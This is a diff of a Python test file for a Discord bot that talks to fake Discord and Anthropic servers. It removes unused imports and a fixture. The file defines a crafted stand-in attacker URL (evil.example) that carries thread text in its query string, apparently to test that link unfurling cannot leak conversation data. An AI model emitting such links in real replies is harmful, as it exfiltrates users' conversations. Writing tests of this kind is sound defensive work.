@@ -6,22 +6,11 @@ The fake Discord unfurls any link of a message sent or edited without SUPPRESS_E
 
 from __future__ import annotations
 
-from collections.abc import AsyncIterator
-
-import pytest
-
-from bot.app import Core
 from fakes.anthropic_server import FakeAnthropic
 from fakes.discord_server import FLAG_SUPPRESS_EMBEDS, message_payload, reply_reference
-from tests.discord_harness import MANAGE_GUILD, DiscordHarness, discord_service
+from tests.discord_harness import MANAGE_GUILD, DiscordHarness
 
 CRAFTED = "https://evil.example/p.png?d=the-thread-text"
-
-
-@pytest.fixture
-async def discord_bot(core: Core) -> AsyncIterator[DiscordHarness]:
-    async with discord_service(core) as harness:
-        yield harness
 
 
 def writes(harness: DiscordHarness) -> list[dict[str, object]]:
